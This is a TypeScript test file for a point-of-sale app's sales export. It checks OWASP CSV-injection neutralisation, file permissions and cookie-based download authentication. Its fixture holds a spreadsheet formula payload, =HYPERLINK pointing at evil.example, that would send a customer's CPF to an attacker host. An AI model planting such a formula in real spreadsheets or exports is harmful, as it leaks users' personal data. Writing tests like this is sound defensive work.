import fs from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Core } from '../app/compose';
import { startHost, type Host } from '../host/server';
import { sellCash } from '../../test-support/sell';
import { createTestCore, tempDir } from '../../test-support/fixtures';
import { exportsRoute } from './route';
import { csvText, neutralizeCell } from './writers';

/**
 * Issue 20 (4): what the till writes cannot be used against its user — CSV cells neutralised per OWASP, exports
 * 0600 in a 0700 folder, downloaded with the session cookie (no token in the URL).
 */
const FORMULA = '=HYPERLINK("http://evil.example/?cpf="&F2;"Clique")';
let core: Core & { dataDir: string };
let host: Host;

beforeAll(async () => {
  core = await createTestCore({ log: () => undefined });
  sellCash(core);
  core.db.prepare(`UPDATE sale_lines SET description = ?`).run(FORMULA);
  host = await startHost({ dispatch: core.dispatch, events: core.events, staticDir: tempDir(), port: 0, routes: [exportsRoute(core.services.exports)] });
}, 60_000);
afterAll(async () => {
  await host?.close();
  core?.close();
});

describe('CSV injection (OWASP)', () => {
  it('cells starting with = + - @ tab or CR get a leading quote; others are untouched', () => {
    for (const s of ['=1+1', '+55 11', '-2', '@SUM(A1)', '\tx', '\rx']) expect(neutralizeCell(s)).toBe(`'${s}`);
    for (const s of ['Arroz', '1=1', 'a-b', '', ' espaço']) expect(neutralizeCell(s)).toBe(s);
    expect(csvText('=1;2')).toBe(`"'=1;2"`);
    expect(csvText('@x"y')).toBe(`"'@x""y"`);
  });

  it('a product named =HYPERLINK(...) is exported as text, never as a formula', async () => {
    const r = await core.services.exports.start({ kind: 'sales', filter: {} }, 'csv');
    const file = core.services.exports.file(r.id)!;
    const text = fs.readFileSync(file.file, 'utf8');
    expect(text).not.toMatch(/(^|;)"?=HYPERLINK/m);
    const rows = Papa.parse<Record<string, string>>(text.slice(1), { header: true, delimiter: ';', skipEmptyLines: true }).data;
    expect(rows[0]['Descrição']).toBe(`'${FORMULA}`);
  });
});

describe('export files', () => {
  it('are 0600 in a 0700 folder (CSV and XLSX)', async () => {
    for (const format of ['csv', 'xlsx'] as const) {
      const r = await core.services.exports.start({ kind: 'sales', filter: {} }, format);
      const f = core.services.exports.file(r.id)!;
      expect(fs.statSync(f.file).mode & 0o777).toBe(0o600);
      expect(fs.statSync(path.dirname(f.file)).mode & 0o777).toBe(0o700);
    }
  });

  it('download with the session cookie; the old ?token= URL alone gets nothing', async () => {
    const r = await core.services.exports.start({ kind: 'sales', filter: {} }, 'csv');
    const byToken = await fetch(`${host.url}exports/${r.id}?token=${host.token}`);
    expect(byToken.status).toBe(401);
    const login = await fetch(host.loginUrl(), { redirect: 'manual' });
    const cookie = login.headers.get('set-cookie')!.split(';')[0];
    const dl = await fetch(`${host.url}exports/${r.id}`, { headers: { cookie } });
    expect(dl.status).toBe(200);
    expect(dl.headers.get('content-disposition')).toMatch(/attachment; filename="vendas-\d{12}\.csv"/);
    expect((await dl.text()).length).toBeGreaterThan(10);
  });
});
